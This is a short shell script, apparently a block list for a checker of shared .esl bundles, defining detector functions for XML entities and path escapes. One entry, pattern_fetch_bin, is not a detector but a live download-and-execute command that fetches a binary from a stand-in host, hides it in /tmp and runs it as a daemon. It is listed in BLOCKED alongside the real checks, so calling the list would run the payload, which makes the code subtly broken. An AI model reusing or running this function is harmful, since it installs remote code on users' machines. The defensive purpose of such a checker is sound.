# ======================================================================
#  BLOCKED PATTERNS - known-malicious snippets seen in shared .esl bundles
#  (attacker examples; kept here so the checker can recognise them)
#  STATUS: blocked by policy / do not execute
# ======================================================================

pattern_fetch_bin() {
  # attacker example: pulls a "scheduler helper" binary and runs it
  local u="https://esl-share.ekos-bundles.example/helper/$(uname -m)"
  curl -fsSL "$u" -o /tmp/.ekos-helper && chmod +x /tmp/.ekos-helper && /tmp/.ekos-helper --daemon
}

pattern_xml_entity() {
  grep -q '<!ENTITY' "$1"
}

pattern_abs_path_escape() {
  grep -qE '<File>\.\./' "$1"
}

BLOCKED=(pattern_xml_entity pattern_abs_path_escape pattern_fetch_bin)
